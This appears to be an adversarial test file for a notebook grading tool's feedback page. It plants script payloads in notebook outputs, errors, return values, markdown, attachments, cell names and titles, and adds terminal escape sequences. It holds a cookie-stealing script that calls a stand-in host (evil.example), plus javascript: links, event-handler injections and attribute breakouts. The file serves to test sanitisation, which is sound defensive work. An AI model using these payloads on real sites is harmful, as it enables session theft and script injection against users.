"""HTML and scripts in everything that the feedback page shows."""

from arena import DOUBLE, SMALLEST, WRITTEN, adversary

SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>"
WRONG = {DOUBLE: "def double(x):\n    return 'wrong'"}


@adversary(tries="scripts in outputs of every kind", costs=[DOUBLE])
def scripts_in_outputs(work):
    work.after(
        DOUBLE,
        f"""from IPython.display import HTML, SVG, Javascript, display
display(HTML({SCRIPT!r}), Javascript("alert(1)"), SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))
display({{"text/html": {SCRIPT!r}, "image/png": {SCRIPT!r}, "text/plain": {SCRIPT!r}}}, raw=True)
display({{"text/latex": {SCRIPT!r}, "application/javascript": {SCRIPT!r}}}, raw=True)
print({SCRIPT!r})
""",
    )


@adversary(tries="scripts in the words of an exception", twin=WRONG)
def scripts_in_errors(work):
    work.answer(DOUBLE, f"def double(x):\n    raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})")


@adversary(tries="scripts in what an answer returns and is called", twin=WRONG)
def scripts_in_values(work):
    work.answer(DOUBLE, f"def double(x):\n    return type({SCRIPT!r}, (), {{'__repr__': lambda s: {SCRIPT!r}}})()")
    work.answer(SMALLEST, f"def smallest(values):\n    return {SCRIPT!r}, {{'`</code>{SCRIPT}`': 1}}")


@adversary(tries="HTML, links and pictures in the written answer")
def scripts_in_markdown(work):
    work.answer(
        WRITTEN,
        f"""{SCRIPT}

[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) ![x](//evil.example/x.png)
<b onclick=alert(1)>b</b>

[ref]: javascript:alert(1) "{SCRIPT}"

[a][ref] <javascript:alert(1)> ![y](vbscript:x "onerror=alert(1)") `{SCRIPT}`

<svg onload=alert(1)> <!-- {SCRIPT} --> <iframe src="//evil.example"></iframe>
""",
    )


@adversary(tries="attachments of the written answer that are no pictures, and break out of an attribute")
def scripts_in_attachments(work):
    work.answer(WRITTEN, "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.png) ![d](attachment:d)")
    work.cell(WRITTEN)["attachments"] = {
        "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"},
        "b.png": {"image/png": '"><script>alert(1)</script>'},
        "c.png": {"image/png": "iVBORw0KGgo="},
        "d": {"text/html": SCRIPT},
        '"><script>': {"image/png": "iVBORw0KGgo="},
    }


@adversary(tries="scripts in grade ids, names of cells and the notebook's title", flagged=["unknown cell"])
def scripts_in_names(work):
    marks = {"grade": True, "locked": False, "points": 1, "schema_version": 3, "solution": True, "task": False}
    work.insert(2, "1", nbgrader={**marks, "grade_id": SCRIPT})
    work.insert(2, f"{SCRIPT} = 1").setdefault("id", SCRIPT)
    work.insert(0, f"# {SCRIPT}", cell_type="markdown")
    work.notebook["metadata"]["title"] = SCRIPT


@adversary(tries="control characters and escapes that rewrite an instructor's terminal", flagged=["unknown cell"])
def escapes_in_names(work):
    marks = {"grade": True, "locked": False, "points": 1, "schema_version": 3, "solution": False, "task": False}
    work.insert(2, "1", nbgrader={**marks, "grade_id": "\x1b[2J\x1b]0;owned\x07"})
    work.after(DOUBLE, "print('\\x1b[2J\\x1b]0;owned\\x07' * 1000, '\\x00\\x08\\x7f')")
